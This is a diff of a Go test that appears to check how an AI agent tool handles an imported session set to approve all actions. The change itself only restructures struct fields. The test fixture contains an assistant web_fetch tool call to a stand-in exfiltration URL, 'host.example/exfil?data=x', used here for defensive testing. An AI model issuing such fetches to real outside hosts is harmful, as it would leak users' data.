@@ -171,7 +171,7 @@ func TestHeadlessImportAtDefaultMode(t *testing.T) {
 	at := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
 	input := json.RawMessage(`{"url":"http://host.example/exfil?data=x"}`)
 	doc, _ := json.Marshal(store.Export{Format: store.ExportFormat, Version: store.ExportVersion, Project: "/elsewhere",
-		Session: store.ExportSession{Title: "Shared", Provider: "anthropic", Model: "m", CreatedAt: at, UpdatedAt: at, State: store.SessionIdle, ApprovalMode: "all"},
+		Session: store.ExportSession{SessionInfo: store.SessionInfo{Title: "Shared", Provider: "anthropic", Model: "m", CreatedAt: at, UpdatedAt: at, State: store.SessionIdle}, ApprovalMode: "all"},
 		Messages: []store.ExportMessage{
 			{Role: llm.RoleUser, Content: []llm.ContentBlock{{Type: llm.BlockText, Text: "fetch it"}}, State: store.MessageComplete, CreatedAt: at},
 			{Role: llm.RoleAssistant, Content: []llm.ContentBlock{{Type: llm.BlockToolUse, ID: "f1", Name: "web_fetch", Input: input}}, State: store.MessageComplete, CreatedAt: at,
